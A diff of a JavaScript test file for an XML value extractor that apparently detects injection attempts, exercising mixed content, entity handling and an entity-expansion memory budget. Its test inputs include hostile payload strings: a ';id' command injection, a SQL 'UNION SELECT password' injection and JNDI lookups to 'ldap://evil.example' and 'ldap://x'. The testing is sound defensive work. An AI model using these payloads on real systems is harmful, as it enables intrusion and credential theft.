@@ -34,17 +34,30 @@ test("an element's own text is joined across comments, instructions, CDATA and c
   assert.deepEqual(paths('<r><host>127.0.0.1<b/>;id</host></r>'), [['r.host', '127.0.0.1;id']]);
 });
 
-test('mixed content is also read whole, and the document\'s own entities are substituted (an eleventh review)', () => {
-  assert.deepEqual(paths("<r><q>1' UNION <b>SELECT</b> password FROM users--</q></r>"), [
-    ['r.q.b', 'SELECT'],
-    ['r.q', "1' UNION  password FROM users--"],
-    ['r.q', "1' UNION SELECT password FROM users--"],
-  ]);
-  assert.deepEqual(paths('<!DOCTYPE r [<!ENTITY j "jndi">]><r><q>${&j;:ldap://evil.example/a}</q></r>'), [
-    ['r.q', '${jndi:ldap://evil.example/a}'],
-  ]);
+test('mixed content is also read whole, naming what it joins; entities are reported, not substituted', () => {
+  const r = xmlValues("<r><q>1' UNION <b>SELECT</b> password FROM users--</q></r>", 1024);
+  assert.deepEqual(
+    r.values.map((v) => [v.path, v.value, v.joins]),
+    [
+      ['r.q.b', 'SELECT', undefined],
+      ['r.q', "1' UNION  password FROM users--", undefined],
+      ['r.q', "1' UNION SELECT password FROM users--", ['r.q', 'r.q.b']],
+    ],
+  );
   // A record's fields are not joined: a login's user and password stay two values.
   assert.deepEqual(paths('<Login><User>jane</User><Password>pw</Password></Login>'), [['Login.User', 'jane'], ['Login.Password', 'pw']]);
+  // The document's own entities: nested ones and markup in them are a parser's job, so their use is what is reported.
+  assert.equal(xmlValues('<!DOCTYPE r [<!ENTITY a "jn"><!ENTITY b "&a;di">]><r>${&b;:ldap://x/a}</r>', 1024).internalEntity, 'b');
+  assert.equal(xmlValues('<!DOCTYPE r [<!ENTITY a "jn">]><r>Tom &amp; Jerry</r>', 1024).internalEntity, undefined);
+});
+
+test('nested mixed content repeats no more than a budget of text (a twelfth review: 4.4 GB, out of memory)', () => {
+  const xml = `<!DOCTYPE r [<!ENTITY a "${'A'.repeat(4096)}">]>${'<a>x'.repeat(100)}${'&a;'.repeat(40_000)}${'</a>'.repeat(100)}`;
+  const t0 = process.hrtime.bigint();
+  const r = xmlValues(xml, 1024);
+  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 200);
+  assert.equal(r.joinsCut, true);
+  assert.ok(r.values.reduce((n, v) => n + v.value.length, 0) < 3 * xml.length);
 });
 
 test('only namespace declarations are skipped among attributes (a tenth review: xmlnsCmd hid ;id)', () => {
